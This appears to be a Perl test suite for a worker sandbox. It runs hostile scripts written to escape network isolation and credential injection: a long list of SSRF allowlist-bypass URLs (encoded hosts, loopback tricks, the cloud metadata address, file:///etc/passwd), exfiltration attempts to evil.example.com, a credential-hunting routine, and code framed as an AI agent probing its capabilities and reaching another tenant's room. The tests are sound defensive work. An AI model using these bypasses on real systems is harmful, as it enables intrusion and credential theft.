# The article's samples, as they stand there (one missing pair of back-quotes
# mended), with what they leave to the reader around them.  esbuild takes the
# types away.  Then, for each pattern of its table, workers that try to break
# what it promises.

use warnings;
use strict;

use JSON::PP qw(decode_json);
use Test::More;
use DynWorker;

sub read_text {
    my ($path) = @_;
    open my $in, '<', $path or die "$path: $!\n";
    local $/;
    return scalar <$in>;
}

# TypeScript as JavaScript.
sub compile {
    my ($text) = @_;
    my $file = "$ENV{BUILD}/obj/seed.ts";
    open my $out, '>', $file or die "$file: $!\n";
    print $out $text;
    close $out or die "$file: $!\n";
    my $js = `node_modules/.bin/esbuild --log-level=warning --format=esm $file`;
    die "esbuild failed\n" if $? != 0;
    return $js;
}

# -- the samples -------------------------------------------------------------------

my $isolation = read_text('t/seed/isolation.ts') . <<'END';
import { exports, WorkerEntrypoint } from "cloudflare:workers";
export class CustomApi extends WorkerEntrypoint {
  fetchData() { return { rows: [1, 2, 3] }; }
}
Object.defineProperty(globalThis, "customApiBinding", { get: () => exports.CustomApi });
END

my $chat_room = read_text('t/seed/chat-room.ts') . <<'END';
const extractTenantFromRequest = (request) => new URL(request.url).searchParams.get("tenant");
import aiGeneratedCode from "./agent.txt";
ChatRoom.prototype.sendToChatService = async function (apiKey, room, message) {
  console.log("CHAT", apiKey === "s3cret-key", room, message);
  if (message.includes("fails")) throw new Error("The chat service does not answer.");
};
END

my $gateway = read_text('t/seed/http-gateway.ts') . <<'END' .
export default {
  async fetch(request, env, ctx) {
    const tenantId = "acme";
END
    read_text('t/seed/http-gateway-usage.ts') . <<'END';
    return worker.getEntrypoint().fetch(request);
  },
};
END

# -- those who try to break them ------------------------------------------------------

# hunt(roots) returns all text that can be had from there: names, values of data
# properties and getters, own and inherited, messages and stacks of errors,
# sources of functions, entries of collections.
my $hunt = <<'END';
const texts = new Set();
const seen = new WeakSet();
function say(value) {
  try { texts.add(String(value).slice(0, 4000)); } catch (error) { texts.add(`${error.message}`); }
}
function walk(value, depth) {
  if (value === null || (typeof value !== "object" && typeof value !== "function")) return say(value);
  if (depth === 0 || seen.has(value)) return;
  seen.add(value);
  if (value instanceof Error) say(`${value.name} ${value.message} ${value.stack}`);
  if (typeof value === "function") say(Function.prototype.toString.call(value));
  if (value instanceof Map || value instanceof Set || value instanceof Headers ||
      value instanceof URLSearchParams) {
    for (const entry of value) walk(entry, depth - 1);
  }
  for (let from = value; from !== null; from = Object.getPrototypeOf(from)) {
    let keys;
    try { keys = Reflect.ownKeys(from); } catch (error) { say(error.message); break; }
    for (const key of keys) {
      say(key.toString());
      try { walk(Reflect.get(from, key, value), depth - 1); } catch (error) { walk(error, 2); }
    }
    if (from === Object.prototype || from === Function.prototype) break;
  }
}
// What is at the other end of a stub, under every name that could be there.
const names = ["env", "ctx", "props", "apiKey", "botName", "roomName", "tenantId", "API_TOKEN", "CHAT_API_KEY",
  "constructor", "prototype", "__proto__", "toString", "valueOf", "toJSON", "hasOwnProperty", "__lookupGetter__",
  "name", "length", "arguments", "caller", "stack", "headers", "then", "dup", "exports", "waitUntil",
  "fetch", "post", "sendToChatService", "isAllowedDomain"];
async function ask(stub) {
  for (const name of names) {
    for (const get of [() => stub[name], () => stub[name](), () => stub[name]({}), () => stub.ctx.props[name],
      () => stub.env[name], () => stub.post[name], () => stub.post.constructor[name], () => stub[name].call(stub)]) {
      try { walk(await get(), 4); } catch (error) { walk(error, 3); }
    }
  }
}
export async function hunt(roots, stubs) {
  for (const stub of stubs) await ask(stub);
  for (const root of [...roots, globalThis]) walk(root, 7);
  return [...texts].join("\n");
}
END

# What an agent might write: it uses the room, then looks for more.
my $agent = <<'END';
import { hunt } from "./hunt.js";
export default {
  async fetch(request, env, ctx) {
    const room = env.CHAT_ROOM;
    const errors = [];
    const tries = [
      () => room.post("hello"),
      () => room.post("fails"),
      () => room.post("hello", "#other"),
      () => room.post({ toString: () => "hello", roomName: "#other" }),
      () => room.post.call({ ctx: { props: { roomName: "#other" } } }, "hello"),
      () => room.post.apply({ ctx: { props: { roomName: "#other" } } }, ["hello"]),
      () => room({ props: { roomName: "#other" } }).post("hello"),
      () => new room({ props: { roomName: "#other" } }).post("hello"),
      () => { room.ctx = { props: { roomName: "#other" } }; return room.post("hello"); },
      () => { room.props = { roomName: "#other" }; return room.post("hello"); },
      () => { Object.prototype.roomName = "#other"; return room.post("hello"); },
      () => { Object.prototype.props = { roomName: "#other" }; return room.post("hello"); },
      () => ctx.exports.default({ props: { roomName: "#other" } }).post("hello"),
      // TypeScript's "private" is a method as any other; what it lacks is the key
      () => room.sendToChatService(undefined, "#other", "hello"),
      () => room.fetch("http://a/", { method: "POST", body: "#other" }),
    ];
    for (const get of tries) {
      try { await get(); } catch (error) { errors.push(error); }
    }
    delete Object.prototype.roomName;
    delete Object.prototype.props;
    const headers = new Headers({ "x-canary": "canary-header" });
    const canaries = { deep: new Map([["k", new Error("canary-error")]]), headers,
      get late() { return "canary-getter"; } };
    return new Response(await hunt([env, ctx, request, errors, canaries], [room, room.post, ctx.exports.default]));
  },
};
END

# Without a network: ways out.
my $outlaw = <<'END';
import { connect } from "cloudflare:sockets";
export default {
  async fetch(request, env, ctx) {
    const url = new URL(request.url).searchParams.get("url");
    const stub = env.CUSTOM_API;
    const tries = {
      fetch: () => fetch(url),
      "fetch of a Request": () => fetch(new Request(url, { method: "POST", body: "x" })),
      "fetch of the event's Request": () => fetch(new Request(url, request)),
      "fetch of an address": () => fetch(`http://127.0.0.1:${new URL(request.url).port}/`),
      "a bound fetch": () => Reflect.apply(fetch, { globalOutbound: {} }, [url]),
      connect: () => connect("evil.example.com:80"),
      "a Fetcher's connect": () => stub.connect("evil.example.com:80"),
      "a Fetcher's fetch": () => stub.fetch(url),
      "a Fetcher with a network": () => Object.create(Object.getPrototypeOf(stub)).fetch(url),
      "a Fetcher's constructor": () => new (Object.getPrototypeOf(stub).constructor)({ capability: 0 }).fetch(url),
      "another Fetcher's fetch": () => ctx.exports.other.fetch(url),
      "a Request's fetcher": () => fetch(url, { fetcher: stub }),
      EventSource: () => new Promise((resolve, reject) => {
        const source = new EventSource(url);
        source.onopen = source.onmessage = () => resolve(new Response("opened"));
        source.onerror = () => { source.close(); reject(new Error("EventSource failed")); };
      }),
      import: () => import(url),
      "import of data": () => import("data:text/javascript,export default 1"),
      WebSocket: () => new WebSocket(url.replace("http", "ws")),
      XMLHttpRequest: () => new XMLHttpRequest(),
      Worker: () => new Worker(url),
      importScripts: () => importScripts(url),
      caches: () => caches.default.match(url),
      sendBeacon: () => navigator.sendBeacon(url),
      WebAssembly: () => WebAssembly.instantiateStreaming(fetch(url)),
      "a loader": () => env.LOADER.load({}),
      eval: () => eval("fetch(url)"),
      "new Function": () => new Function("url", "return fetch(url)")(url),
    };
    const answers = {};
    for (const [name, get] of Object.entries(tries)) {
      try {
        const response = await get();
        answers[name] = "OUT " + (response instanceof Response ? await response.text() : typeof response);
      } catch (error) {
        answers[name] = `threw ${error.message}`;
      }
    }
    return Response.json(answers);
  },
};
export const other = { fetch: (request) => fetch(request) };
END

# Where "evil.example.com" is not allowed, and "api.example.com" is: all spellings
# and detours.  Then the same for what may go out, with headers that others are
# to decide about.
my $attack = <<'END';
export default {
  async fetch(request, env) {
    const { port } = new URL(request.url);
    const evil = [];
    for (const scheme of ["http", "https"]) {
      for (const host of ["evil.example.com", "EVIL.Example.COM", "evil.example.com.", "EVIL.example.com.:80",
        "evil.example.com:80", "evil.example.com:443", "evil.example.com:8443", "evil.example.com:00080",
        "sub.evil.example.com", "api.example.com.evil.example.com", "evil.example.com\u3002",
        "api.example.com@evil.example.com", "api.example.com:80@evil.example.com", "@evil.example.com",
        "api.example.com%40evil.example.com", "api.example.com%2f@evil.example.com",
        "api.example.com%00.evil.example.com", "api.example.com\u0000.evil.example.com",
        "\u24d4vil.example.com", "\uff45vil.example.com", "evil\u3002example\uff0ecom", "e\u00advil.example.com",
        "%65vil.example.com", "%65%76%69%6c.example.com", "ev\til.exam\nple.com", "\u0430pi.example.com",
        "xn--pi-6kc.example.com", "api.example.com:81", "api.example.com:8443",
        "api-example.com", "apiXexample.com", "example.com", "x.api.example.com",
        `127.0.0.1:${port}`, `127.1:${port}`, `2130706433:${port}`, `0x7f000001:${port}`, `0177.0.0.1:${port}`,
        `0x7f.0.0.1:${port}`, `127.0.0.1.:${port}`, `\uff11\uff12\uff17.0.0.1:${port}`, `0.0.0.0:${port}`,
        `[::1]:${port}`, `[::]:${port}`, `[::ffff:127.0.0.1]:${port}`, `[::ffff:7f00:1]:${port}`,
        `[0:0:0:0:0:ffff:7f00:0001]:${port}`, `[::127.0.0.1]:${port}`, `[::1%25lo]:${port}`,
        `localhost:${port}`, `LOCALHOST.:${port}`, `169.254.169.254`]) {
        evil.push([`${scheme}://${host}/`, host]);
      }
    }
    for (const url of ["http:evil.example.com/", "http:/evil.example.com/", "http:\\\\evil.example.com\\",
      "\thttp://evil.example.com/", "http:////evil.example.com/", "ht\ntp://evil.example.com/",
      "//evil.example.com/", "ftp://evil.example.com/", "ws://evil.example.com/", "file:///etc/passwd"]) {
      evil.push([url, url]);
    }
    for (const to of ["http://evil.example.com/", "//evil.example.com/", "http://EVIL.example.com./",
      "https:evil.example.com", "http://api.example.com@evil.example.com/", "http://%65vil.example.com/",
      "\\\\evil.example.com", `http://127.0.0.1:${port}/`, "http://api.example.com:81/",
      "http://api.example.com/redirect?to=http://evil.example.com/",
      "http://data.provider.io/redirect?status=307&to=http://evil.example.com/"]) {
      for (const status of [301, 302, 303, 307, 308]) {
        evil.push([`http://api.example.com/redirect?status=${status}&to=${encodeURIComponent(to)}`, `-> ${to}`]);
      }
    }
    const ask = async (url, init) => {
      try {
        const response = await fetch(url, init);
        return `${response.status} ${await response.text()}`;
      } catch (error) {
        return "threw";
      }
    };
    const answers = [];
    for (const [url, name] of evil) {
      answers.push([name, await ask(url), await ask(url, { method: "POST", body: "x" })]);
    }
    // what looks like elsewhere, and is not
    const same = [];
    for (const url of ["http://api.example.com/x#@evil.example.com", "http://api.example.com\\@evil.example.com/",
      "http://api.example.com/http://evil.example.com/", "http://api.example.com//evil.example.com/",
      "http://API.example.com:80/?http://evil.example.com", "http:\\\\api.example.com",
      "http://api.example.com/redirect?to=/evil.example.com", "http://api.example.com/%0d%0aHost:%20evil.example.com"]) {
      same.push(await ask(url));
    }
    for (const headers of [{ Host: "evil.example.com" }, { "X-Forwarded-Host": "evil.example.com" },
      { Connection: "Host, Authorization, X-Tenant-Id" }, { Authorization: "mine", "X-Tenant-Id": "other" },
      { AUTHORIZATION: "mine", "x-tenant-ID": "other" }, [["X-Tenant-Id", "other"], ["x-tenant-id", "third"]]]) {
      same.push(await ask("http://api.example.com/", { headers }));
    }
    // another name of the allowed host, to nginx
    const dot = await ask("http://api.example.com./");
    return Response.json({ evil: answers, same, dot });
  },
};
END

# Credentials that are added on the way out: are they anywhere here?
my $thief = <<'END';
import { hunt } from "./hunt.js";
export default {
  async fetch(request, env, ctx) {
    const found = [];
    for (const [url, init] of [
      ["http://api.example.com/quiet"],
      ["http://api.example.com/quiet", { method: "POST", body: new ReadableStream({ type: "bytes",
        start(c) { c.enqueue(new Uint8Array(9)); c.close(); } }) }],
      ["http://api.example.com/quiet", { headers: { Authorization: "mine" } }],
      ["http://api.example.com/redirect?to=http://data.provider.io/echo"],
      ["http://api.example.com/redirect?status=307&to=http://data.provider.io/echo", { method: "POST", body: "x" }],
      ["http://data.provider.io/redirect?to=http://data.provider.io/echo"],
      ["http://api.example.com/redirect?to=http://data.provider.io/echo", { redirect: "manual" }],
      ["http://api.example.com/redirect?to=http://evil.example.com/echo"],
      ["http://api.example.com/redirect?to=http://data.provider.io.evil.example.com/echo"],
      ["http://data.provider.io/echo", { headers: { "X-Copy": "Authorization" } }],
      ["http://evil.example.com/echo"],
      ["http://api.example.com/reset"],
      ["http://api.example.com/quiet", { signal: AbortSignal.abort() }],
      ["http://api.example.com/quiet", { method: "TRACE" }],
    ]) {
      try {
        const made = new Request(url, init);
        found.push(made, made.headers);
        const response = await fetch(made);
        found.push(made.headers, response, response.headers, response.url, await response.text());
      } catch (error) {
        found.push(error);
      }
    }
    const canaries = [new Error("canary-error")];
    return new Response(await hunt([env, ctx, request, found, canaries], [ctx.exports.default]));
  },
};
END

# A host for them: as the article's, with the code of a file.
sub host_of {
    my ($class, $code, $options) = @_;
    return compile($class . <<"END");
import { WorkerEntrypoint as Base } from "cloudflare:workers";
import code from "./$code.txt";
import hunt from "./hunt.txt";
export class CustomApi extends Base { fetchData() { return [1]; } }
export default {
  fetch(request, env, ctx) {
    const tenantId = "acme";
    return env.LOADER.get("$code", () => ({
      mainModule: "index.js", modules: { "index.js": code, "hunt.js": hunt }, $options
    })).getEntrypoint().fetch(request);
  },
};
END
}

my $class = read_text('t/seed/http-gateway.ts');
my $by_gateway = 'globalOutbound: ctx.exports.HttpGateway({ props: { tenantId } }),';

# chat-room.ts loads one module; the hunt goes into it.
(my $one_file = $agent) =~ s/^import .*\n//;
($one_file = $hunt . $one_file) =~ s/^export async function/async function/m;

my $t = DynWorker->start(
    http => <<'END',
    upstream api.example.com { server 127.0.0.1:%%PORT%%; }
    upstream api.example.com. { server 127.0.0.1:%%PORT%%; }
    upstream data.provider.io { server 127.0.0.1:%%PORT%%; }
    upstream evil.example.com { server 127.0.0.1:%%PORT%%; }
    dynworker_outbound all { allow all; private_addresses on; pass /_out; }
    dynworker_outbound strict {
        allow api.example.com data.provider.io;
        set_header Authorization "Bearer n9inx-token" api.example.com;
        set_header X-Tenant-Id acme api.example.com;
        private_addresses on;
        pass /_out;
    }
END
    config => <<'END',
    dynworker_loader LOADER;
    dynworker_log_level info;
    dynworker_limits cpu=10s subrequests=2000;
    dynworker_var CHAT_API_KEY s3cret-key;
    dynworker_var API_TOKEN t0ken;

    location /isolation { dynworker_script isolation.js; }
    location /chat { dynworker_script chat-room.js; }
    location /gateway { dynworker_global_outbound all; dynworker_script gateway.js; }

    location /outlaw { dynworker_global_outbound all; dynworker_script outlaw.js; }
    location /outlaw-open { dynworker_global_outbound all; dynworker_script outlaw-open.js; }
    location /attack/gateway { dynworker_global_outbound all; dynworker_script attack-gateway.js; }
    location /attack/policy { dynworker_global_outbound strict; dynworker_script attack-policy.js; }
    location /attack/open { dynworker_global_outbound all; dynworker_script attack-policy.js; }
    location /thief/gateway { dynworker_global_outbound all; dynworker_script thief-gateway.js; }
    location /thief/policy { dynworker_global_outbound strict; dynworker_script thief-policy.js; }

    location / { dynworker_script api.js; }
    location = /reset { return 444; }
    location = /_out {
        internal;
        proxy_pass http://$dynworker_outbound_peer$dynworker_outbound_uri;
        proxy_set_header Host $dynworker_outbound_host;
    }
END
    files => {
        'agent.txt' => $one_file,
        'hunt.txt' => $hunt,
        'outlaw.txt' => $outlaw,
        'attack.txt' => $attack,
        'thief.txt' => $thief,
        'isolation.js' => compile($isolation),
        'chat-room.js' => compile($chat_room),
        'gateway.js' => compile($gateway),
        'outlaw.js' => host_of('', 'outlaw', 'globalOutbound: null, env: { CUSTOM_API: ctx.exports.CustomApi }'),
        'outlaw-open.js' => host_of('', 'outlaw', 'env: { CUSTOM_API: ctx.exports.CustomApi }'),
        'attack-gateway.js' => host_of($class, 'attack', $by_gateway),
        'attack-policy.js' => host_of('', 'attack', ''),
        'thief-gateway.js' => host_of($class, 'thief', $by_gateway),
        'thief-policy.js' => host_of('', 'thief', ''),
        'api.js' => <<'END',
const known = ["api.example.com", "data.provider.io"];
export default {
  fetch(request) {
    const { host, pathname, searchParams } = new URL(request.url);
    const { headers } = request;
    if (!known.includes(host)) console.log(`REACHED ${host}`);
    if (pathname === "/redirect") {
      return new Response(null, { status: Number(searchParams.get("status") ?? 302),
        headers: { Location: searchParams.get("to") } });
    }
    if (pathname === "/quiet") return new Response("ok");
    if (pathname === "/echo") return Response.json([...headers]);
    return new Response([host, pathname, headers.get("authorization"),
      headers.get("x-tenant-id")].join("|"));
  },
};
END
    });

my $reached = sub { my @n = $t->error_log =~ /REACHED (\S+?),/g; scalar @n };

# -- the samples run ------------------------------------------------------------------

is $t->get('/isolation')->{content}, '{"rows":[1,2,3]}',
    'complete isolation with a custom binding';

is $t->get('/gateway')->{content}, 'api.example.com|/data|Bearer t0ken|acme',
    'credentials are added on the way out';
like $t->error_log, qr/\[AUDIT\] Tenant acme requesting \/data/, 'and it is logged';

# -- complete isolation ------------------------------------------------------------------

sub outlaw {
    my ($path) = @_;
    return decode_json($t->get("$path?url=http://evil.example.com/out")->{content});
}

my $answers = outlaw('/outlaw');
is scalar(keys %$answers), 25, 'isolation: each way out was tried';
is_deeply [grep { $answers->{$_} !~ /^threw / } sort keys %$answers], [], 'and none is open';
is $reached->(), 0, 'nothing came out';
like $answers->{$_}, qr/^threw Network access is disabled/, "$_ says why" for 'fetch', 'connect';
ok((grep { /^OUT evil/ } values %{ outlaw('/outlaw-open') }) >= 4,
    'with a network, the same code does come out');

# -- credential-injected egress -------------------------------------------------------------

my $hunted = $t->get('/thief/gateway')->{content};
like $hunted, qr/canary-error/, 'credentials of a gateway: they are looked for';
like $hunted, qr/^ok$/m, 'in what came back, too';
like $hunted, qr/\["host","data\.provider\.io"\]/, '... by another host, after a redirect';
unlike $hunted, qr/t0ken|s3cret/, 'and not found';

$hunted = $t->get('/thief/policy')->{content};
like $hunted, qr/canary-error/, "credentials of nginx's: they are looked for";
unlike $hunted, qr/n9inx|t0ken|s3cret/, 'and not found';
unlike $t->error_log, qr/t0ken|n9inx/, 'no log has them';

# -- capability-based access ------------------------------------------------------------------

my $chat = $t->get('/chat?tenant=acme')->{content};
like $chat, qr/canary-$_/, "the chat room: what is looked for is found: $_"
    for qw(header error getter);
unlike $chat, qr/s3cret|t0ken/, 'the key is not';
unlike $chat, qr/#tenant-acme|AI-Assistant/, 'nor are the props';
my @said = $t->error_log =~ /CHAT (\S+ \S+ .*?),/g;
is_deeply [grep { /^true / && !/^true #tenant-acme \[AI-Assistant\]: / } @said], [],
    'with the key nothing is said in another room';
ok((grep { $_ eq 'false #other hello' } @said), 'and without it it was tried');
ok((grep { $_ eq 'true #tenant-acme [AI-Assistant]: hello' } @said) > 5,
    'and all is said in the own one') or diag join "\n", @said;

# -- network allowlisting ---------------------------------------------------------------------

# A blocked host is refused, or its URL is.
my $before = $reached->();
for my $by (qw(gateway policy)) {
    my $got = decode_json($t->get("/attack/$by")->{content});
    ok @{ $got->{evil} } > 150, "allowlist of the $by: each way was tried";

    my @open = grep { my ($name, @answers) = @$_; grep { !/^(?:403 Domain not allowed|threw)$/ } @answers }
        @{ $got->{evil} };
    is_deeply \@open, [], 'and none is open' or diag map { "@$_\n" } @open;

    my $token = $by eq 'policy' ? 'Bearer n9inx-token' : 'Bearer t0ken';
    is_deeply [grep { !/^200 api\.example\.com\|[^|]*\|\Q$token\E\|acme$/ } @{ $got->{same} }], [],
        'what looks like elsewhere stays there, and its headers are not its own to choose';
    is $got->{dot}, $by eq 'policy' ? "200 api.example.com|/|$token|acme" : '403 Domain not allowed',
        'a name with a dot at its end';
}
is $reached->(), $before, 'nothing came anywhere else';

my $open = decode_json($t->get('/attack/open')->{content});
my $through = grep { $_->[1] =~ /^200 / } @{ $open->{evil} };
ok $through > 50, 'without an allowlist, the same code does' or diag $through;

$t->stop;
$t->no_alerts;
done_testing;
